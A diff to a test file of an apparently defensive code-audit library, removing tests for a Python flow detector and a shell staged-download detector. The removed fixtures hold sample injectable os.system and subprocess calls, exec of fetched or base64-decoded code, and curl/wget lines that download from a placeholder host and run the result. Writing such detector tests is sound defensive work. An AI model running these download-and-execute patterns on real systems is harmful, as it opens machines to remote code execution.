@@ -4,7 +4,7 @@ import pytest
 from pyspark.sql import functions as F
 
 from auditlake.functions import text as texts
-from auditlake.operators import flow, markdown, report
+from auditlake.operators import markdown, report
 
 
 def test_front_matter():
@@ -33,23 +33,6 @@ def test_code_units():
     assert got == [("shell", "fence", "\n\nls\n\n\n\n\n\nb"), ("python", "fence", "\n\n\n\n\nx")]
 
 
-@pytest.mark.parametrize(
-    "code, rules",
-    [
-        ("import os, sys\nos.system(sys.argv[1])", ["E01"]), ("import subprocess as s\nx = input()\ny = 'ls ' + x\ns.run(y, shell=True)", ["E01"]), ("import subprocess as s\ns.run(['ls', input()])", []), ("import os, shlex\nos.system('ls ' + shlex.quote(input()))", []),
-        ("import requests\nr = requests.get('u')\nexec(r.text)", ["E03"]), ("import base64\nexec(base64.b64decode('eA=='))", ["E22"]), ("x = input()\nx = 'safe'\neval(x)", []), ("def f(a):\n    eval(a)", []), ("from os import system as s\nfor a in __import__('sys').argv:\n    pass\ns('ls')", []), ("def (", []),
-    ],
-)
-def test_python_flows(code, rules):
-    assert [r.split("-")[0] for _, r, _, _ in flow.python_flows(code)] == rules
-
-
-def test_staged_downloads(spark):
-    scripts = {"a": "curl -o x.sh https://a.example/x\necho\nbash x.sh", "b": "wget https://a.example/d/y.py?z=1 && python3 y.py", "c": "bash z.sh\ncurl -o z.sh https://a.example/z", "d": "curl -O https://a.example/t\nchmod +x t; ./t", "e": "curl https://a.example | cat", "f": None}
-    df = spark.createDataFrame([("p", r, "script_shell", t) for r, t in scripts.items()], "pkg_id string, rel string, kind string, text string")
-    assert sorted((r.path, r.line_no) for r in flow.staged_downloads(df).collect()) == [("a", 3), ("b", 1), ("d", 2)]
-
-
 def test_text_functions(spark):
     df = spark.createDataFrame([(" \x1cab ", "a/.x.tar.gz", "HTTPS://u:p@Host.Example:8/x?y#z", "a\n  b")], "s string, p string, u string, t string")
     r = df.select(texts.strip(F.col("s")), texts.split_extension(F.col("p")), texts.url_host(F.col("u")), texts.clean_source(F.col("u")), texts.flatten(F.col("t")), texts.split_extension(F.lit(".env")), texts.head(F.col("p"), 3)).first()
